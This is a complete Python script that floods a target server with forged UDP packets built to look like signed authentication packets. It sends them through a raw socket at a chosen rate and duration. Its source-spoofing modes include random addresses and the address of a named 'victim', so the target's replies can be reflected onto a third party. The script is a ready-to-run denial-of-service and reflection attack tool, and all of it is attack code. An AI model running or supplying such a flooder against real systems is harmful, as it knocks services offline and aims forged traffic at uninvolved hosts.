"""Floods a server with what looks like signed auth packets, and is junk.

  flood.py KIND TO_IP:PORT VICTIM_IP:PORT RATE SECONDS

KIND says where the packets pretend to come from: "many" random addresses, one "stranger", the "address" of the victim
with random ports, or its very "place". Prints how many it sent in a second.
"""
import os
import random
import socket
import struct
import sys
import time

MOST_VARIANTS = 4096


def endpoint(text):
    ip, port = text.split(":")
    return ip, int(port)


def source(kind, victim):
    if kind == "many":
        return f"11.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}", random.randrange(1024, 65536)
    if kind == "stranger":
        return "203.0.113.99", 40000
    return victim[0], victim[1] if kind == "place" else random.randrange(1024, 65536)


def packet(origin, destination):
    payload = b"\xff" + os.urandom(63) + int(time.time()).to_bytes(5, "big") + os.urandom(4)
    datagram = struct.pack("!HHHH", origin[1], destination[1], 8 + len(payload), 0) + payload
    addresses = socket.inet_aton(origin[0]) + socket.inet_aton(destination[0])
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses + datagram


def main():
    kind, to, victim, rate, seconds = sys.argv[1:]
    destination, rate, seconds = endpoint(to), float(rate), float(seconds)
    variants = min(MOST_VARIANTS, int(rate))
    packets = [packet(source(kind, endpoint(victim)), destination) for _ in range(variants)]
    batch = max(1, int(rate / 1000))
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        start = time.monotonic()
        while (passed := time.monotonic() - start) < seconds:
            if sent > passed * rate:
                time.sleep(batch / rate)
                continue
            for _ in range(batch):
                raw.sendto(packets[sent % variants], (destination[0], 0))
                sent += 1
    print(f"{sent / seconds:.0f}")


main()
